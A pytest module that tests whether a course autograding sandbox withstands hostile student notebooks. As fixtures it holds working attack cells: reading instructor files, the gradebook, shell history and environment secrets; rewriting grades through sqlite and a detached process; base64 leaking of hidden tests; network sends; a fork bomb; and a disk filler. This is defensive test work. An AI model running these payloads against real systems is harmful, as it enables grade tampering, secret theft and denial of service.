"""Hostile submissions against the real grading workflow: each attack fails or is flagged, honest grades hold.

One temporary course (module-scoped) with the fixture assignment ``fx`` and a second assignment ``fy``. Beside
two honest students, each hostile student answers ``fx`` correctly except for one answer cell that attacks the
grader as a student would: read the instructor's files and the gradebook, dump the environment, write into
``source/``, the gradebook and another student's folder, leave a detached process that rewrites grades after
the run, leak the hidden tests base64-encoded, reach a server on 127.0.0.1, fork-bomb, fill the disk, or
submit the other assignment. Everything runs through ``python -m nmd_immuno.grading`` (real nbgrader, real
sqlite gradebook), two students at a time.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import hashlib
import re
import socket
import sqlite3
import threading
import time
from pathlib import Path

import grading_helpers as gh
import nbformat
import psutil
import pytest

from nmd_immuno.grading import workflow
from nmd_immuno.grading.cli import main as cli_main
from nmd_immuno.grading.course import Course
from nmd_immuno.grading.export import grade_export
from nmd_immuno.grading.feedback import generate_feedback
from nmd_immuno.grading.gradebook import grades_frame
from nmd_immuno.grading.leaks import html_text
from nmd_immuno.grading.notebooks import grade_id
from nmd_immuno.grading.sandbox import probe

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(probe() is not None, reason=f"no grading sandbox here: {probe()}"),
]

FX = gh.FIXTURE_ID
FY = "fy"
SECRET_ENV = "NMD_INSTRUCTOR_TOKEN"
SECRET_VALUE = "instructor-token-7f3a9c"
DETACHED_TOKEN = "detached-grade-rewriter-5b1e"
ANSWER = gh.CORRECT["q2_answer"]  # every attack ends with the correct answer of q2


def _tree_hash(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _schema(db: Path) -> list[tuple]:
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as con:
        return sorted(con.execute("SELECT type, name, sql FROM sqlite_master").fetchall())


def _fy_source() -> nbformat.NotebookNode:
    """Another assignment: the fixture with every cell id renamed (a student may hand it in by mistake)."""
    nb = gh.fixture_source_notebook()
    for cell in nb.cells:
        cell.metadata.nbgrader["grade_id"] = "y_" + cell.metadata.nbgrader["grade_id"]
    return nb


class _Server:
    """A TCP server on 127.0.0.1 that records every connection (the sandbox must make none)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(1024) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


def _attacks(course: Course, server_port: int, canary: Path) -> dict[str, str]:
    """student -> code of their q2 answer cell (each ends by answering q2 correctly)."""
    root = course.root
    db = course.db_path
    spy = f"""
import os, sqlite3, sys
found = []
for path in [{str(root / "source" / FX / "fx.ipynb")!r}, {str(root / "release" / FX / "fx.ipynb")!r},
             {str(root / "autograded" / "s_spy" / FX / "fx.ipynb")!r}, {str(db)!r},
             {str(root / "submitted" / "h_honest" / FX / "fx.ipynb")!r}, '/root/.bash_history']:
    try:
        found.append(path + ' READ ' + open(path, errors='replace').read()[:4000])
    except Exception as exc:
        found.append(path + ' BLOCKED ' + type(exc).__name__)
try:
    con = sqlite3.connect({str(db)!r})
    found.append('GRADEBOOK ' + repr(con.execute('select id from student').fetchall()))
except Exception as exc:
    found.append('GRADEBOOK BLOCKED ' + type(exc).__name__)
found.append('CWD ' + repr(sorted(os.listdir('.'))))
found.append('ENV ' + repr(dict(os.environ)))
found.append('PROC ' + repr(sorted(p for p in os.listdir('/proc') if p.isdigit())))
print('\\n'.join(found))
{ANSWER}"""
    vandal = f"""
import sqlite3
for path in [{str(root / "source" / FX / "evil.txt")!r},
             {str(root / "submitted" / "h_honest" / FX / "pwned.txt")!r},
             {str(root / "release" / FX / "evil.txt")!r}, 'evil_in_cwd.txt']:
    try:
        open(path, 'w').write('pwned by s_vandal')
        print('WROTE', path)
    except Exception as exc:
        print('BLOCKED', path, type(exc).__name__)
try:
    con = sqlite3.connect({str(db)!r})
    con.execute('create table pwned (x)')
    con.execute("update grade set auto_score = 100")
    con.commit()
    print('GRADEBOOK WRITTEN')
except Exception as exc:
    print('GRADEBOOK BLOCKED', type(exc).__name__)
{ANSWER}"""
    rewriter = f"""
import sqlite3, time
time.sleep(4)
open({str(canary)!r}, 'w').write('still alive after grading')
con = sqlite3.connect({str(db)!r})
con.execute("update grade set auto_score = max_score")
con.commit()
"""
    detached = f"""
import subprocess, sys
subprocess.Popen([sys.executable, '-c', {rewriter!r}, {DETACHED_TOKEN!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print('detached process started')
{ANSWER}"""
    leak = f"""
import base64
def _grab(info):
    print('B64', base64.b64encode(info.raw_cell.encode()).decode())
get_ipython().events.register('pre_run_cell', _grab)
{ANSWER}"""
    network = f"""
import socket
for host in ['127.0.0.1', 'localhost', '10.0.2.2', '1.1.1.1']:
    try:
        s = socket.create_connection((host, {server_port}), timeout=2)
        s.sendall(b'exfiltrated')
        print('CONNECTED', host)
    except Exception as exc:
        print('NO NETWORK', host, type(exc).__name__)
{ANSWER}"""
    bomb = """
import os, time
def _bomb():
    while True:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.5)
        except BlockingIOError:
            raise
_bomb()"""
    disk = """
i = 0
while True:
    with open(f'fill{i}.bin', 'wb') as f:
        for _ in range(48):
            f.write(b'0' * (1 << 20))
    i += 1"""
    return {
        "s_spy": spy,
        "s_vandal": vandal,
        "s_detached": detached,
        "s_leak": leak,
        "s_network": network,
        "s_bomb": bomb,
        "s_disk": disk,
    }


class Graded:
    def __init__(self, course: Course, **kw) -> None:
        self.course = course
        self.__dict__.update(kw)


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Graded:
    mp = pytest.MonkeyPatch()
    mp.setenv(SECRET_ENV, SECRET_VALUE)  # in the grader's environment: the kernels must not see it
    course = gh.make_course(tmp_path_factory.mktemp("sandbox") / "course", cell_timeout_s=10)
    (course.root / "source" / FY).mkdir(parents=True)
    nbformat.write(_fy_source(), course.root / "source" / FY / f"{FY}.ipynb")
    workflow.generate(course)
    rel = gh.released(course, FX)
    server = _Server()
    canary = course.root.parent / "detached-canary.txt"
    attacks = _attacks(course, server.port, canary)
    gh.write_submission(course, "h_honest", FX, {"fx.ipynb": gh.fill(rel, gh.CORRECT)})
    gh.write_submission(course, "h_wrong", FX, {"fx.ipynb": gh.fill(rel, gh.WRONG)})
    for student, code in attacks.items():
        gh.write_submission(
            course, student, FX, {"fx.ipynb": gh.fill(rel, {**gh.CORRECT, "q2_answer": code})}
        )
    gh.write_submission(course, "s_other", FX, {"fx.ipynb": gh.released(course, FY)})

    source_before = _tree_hash(course.root / "source")
    release_before = _tree_hash(course.root / "release")
    submitted_before = _tree_hash(course.root / "submitted")
    schema_before = _schema(course.db_path)
    started = time.monotonic()
    with gh.grading_scratch() as scratch:
        code = cli_main(["--course-dir", str(course.root), "--exchange", str(course.exchange),
                         "--course-id", course.course_id, "--timeout", "10",
                         "autograde", FX, "--workers", "2"])  # fmt: skip
    seconds = time.monotonic() - started
    grades_after_run = grades_frame(course, FX)
    time.sleep(7)  # the detached process would have acted by now
    server.close()
    mp.undo()
    return Graded(
        course,
        rc=code,
        seconds=seconds,
        attacks=attacks,
        canary=canary,
        server=server,
        source_before=source_before,
        release_before=release_before,
        submitted_before=submitted_before,
        schema_before=schema_before,
        grades_after_run=grades_after_run,
        export=grade_export(course, FX).set_index("student"),
        scratch=scratch,
    )


def _autograded(g: Graded, student: str) -> nbformat.NotebookNode:
    return nbformat.read(g.course.autograded_dir(student, FX) / "fx.ipynb", as_version=4)


def _answer_output(g: Graded, student: str, gid: str = "q2_answer") -> str:
    cell = next(c for c in _autograded(g, student).cells if grade_id(c) == gid)
    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", "")) for o in cell.outputs)


def _scores(g: Graded, student: str) -> dict[str, float]:
    frame = grades_frame(g.course, FX)
    frame = frame[(frame["student"] == student) & (frame["kind"] == "autograded")]
    return dict(zip(frame["item"], frame["score"], strict=True))


def test_autograde_runs_and_honest_students_get_their_grades(graded: Graded) -> None:
    assert graded.rc == 0
    assert _scores(graded, "h_honest") == gh.ITEMS
    assert _scores(graded, "h_wrong") == {item: 0.0 for item in gh.ITEMS}
    assert graded.export.loc["h_honest", "status"] == "ok"
    assert not graded.export["unsandboxed"].any()


def test_reading_instructor_files_gradebook_and_environment_fails(graded: Graded) -> None:
    out = _answer_output(graded, "s_spy")
    assert " READ " not in out and out.count("BLOCKED") >= 6, out
    assert "GRADEBOOK BLOCKED" in out
    assert SECRET_ENV not in out and SECRET_VALUE not in out
    cwd = re.search(r"CWD (\[.*\])", out).group(1)
    assert "fx.ipynb" not in cwd  # the graded notebook (with hidden tests) is not in the kernel's folder
    env = re.search(r"ENV (\{.*\})", out).group(1)
    assert "NBGRADER_EXECUTION" in env and "NMD_COURSE_DIR" not in env and "JPY_PARENT_PID" not in env
    assert _scores(graded, "s_spy") == gh.ITEMS  # the attack costs nothing and gains nothing


def test_writes_outside_the_sandbox_fail_and_leave_the_course_unchanged(graded: Graded) -> None:
    out = _answer_output(graded, "s_vandal")
    assert "WROTE" not in out.replace("WROTE evil_in_cwd.txt", ""), out
    assert "GRADEBOOK BLOCKED" in out
    assert _tree_hash(graded.course.root / "source") == graded.source_before
    assert _tree_hash(graded.course.root / "release") == graded.release_before
    assert _tree_hash(graded.course.root / "submitted") == graded.submitted_before
    assert _schema(graded.course.db_path) == graded.schema_before  # no table added
    for student in ["h_honest", "s_vandal"]:
        for folder in (graded.course.autograded_dir(student, FX), graded.course.feedback_dir(student, FX)):
            assert not (folder / "evil_in_cwd.txt").exists()
            assert not (folder / "evil.txt").exists()


def test_a_detached_process_dies_with_the_sandbox(graded: Graded) -> None:
    assert "detached process started" in _answer_output(graded, "s_detached")
    assert not graded.canary.exists()
    alive = [
        p for p in psutil.process_iter(["cmdline"]) if DETACHED_TOKEN in " ".join(p.info["cmdline"] or [])
    ]
    assert alive == []
    assert grades_frame(graded.course, FX).equals(graded.grades_after_run)
    assert graded.export.loc["s_detached", "status"] == "ok"
    assert _scores(graded, "s_detached") == gh.ITEMS


def test_network_is_unreachable(graded: Graded) -> None:
    out = _answer_output(graded, "s_network")
    assert "CONNECTED" not in out and out.count("NO NETWORK") == 4, out
    assert graded.server.received == []


def test_fork_bomb_and_disk_fill_hit_limits_and_are_flagged(graded: Graded) -> None:
    for student, limit in (("s_bomb", "processes"), ("s_disk", "disk")):
        row = graded.export.loc[student]
        assert "sandbox_limit" in row["status"].split(";"), row.to_dict()
        assert limit in row["detail"] and row["needs_review"]
        scores = _scores(graded, student)
        assert scores["q2_tests"] == 0.0 and scores["q1_tests"] == 2.0 and scores["q4_tests"] == 1.0
    assert gh.sandbox_processes_under(graded.scratch) == []


def test_hidden_tests_never_reach_outputs_even_base64(graded: Graded) -> None:
    out = _answer_output(graded, "s_leak")
    assert "B64" not in out  # the hook fires on later cells
    decoded = []
    for nbpath in graded.course.root.glob(f"autograded/*/{FX}/fx.ipynb"):
        nb = nbformat.read(nbpath, as_version=4)
        for cell in nb.cells:
            for o in cell.get("outputs", []):
                text = str(o.get("text", "")) + " ".join(map(str, o.get("traceback", [])))
                for token in re.findall(r"B64 ([A-Za-z0-9+/=]+)", text):
                    with contextlib.suppress(binascii.Error, UnicodeDecodeError):
                        decoded.append(base64.b64decode(token).decode())
                assert gh.HIDDEN_MARKER not in text and "0.4) == 22.0" not in text
    assert any("assert nnt(0.5) == 2" in d for d in decoded)  # the hook did capture cells...
    assert not any(gh.HIDDEN_MARKER in d or "g_per_kg=0.4" in d for d in decoded)  # ...never hidden tests
    assert _scores(graded, "s_leak") == gh.ITEMS


def test_feedback_is_complete_and_leak_free(graded: Graded) -> None:
    report = generate_feedback(graded.course, FX)
    assert report.withheld == [] and report.failed == []
    for path in report.files:
        markup = path.read_text(encoding="utf-8")
        text = html_text(markup)
        assert gh.HIDDEN_MARKER not in text and gh.SOLUTION_MARKER not in text and SECRET_VALUE not in text
        for token in re.findall(r"[A-Za-z0-9+/]{40,}={0,2}", markup):
            with contextlib.suppress(binascii.Error):
                assert gh.HIDDEN_MARKER not in base64.b64decode(token + "===").decode(errors="ignore")
    leak_fb = html_text((graded.course.feedback_dir("s_leak", FX) / "fx.html").read_text(encoding="utf-8"))
    assert "B64" in leak_fb  # the student's own (harmless) outputs are shown, not withheld


def test_submission_of_another_assignment_is_reported_as_such(graded: Graded) -> None:
    row = graded.export.loc["s_other"]
    assert row["status"] == "wrong_assignment" and row["needs_review"]
    assert "'fy'" in row["detail"] and row["score"] == 0.0
    assert "Traceback" not in row["detail"]


def test_grading_time_per_student_is_reported(graded: Graded) -> None:
    students = graded.course.submitted_students(FX)
    assert len(students) == 10
    assert graded.seconds / len(students) < 30  # generous: a loaded 2-core machine
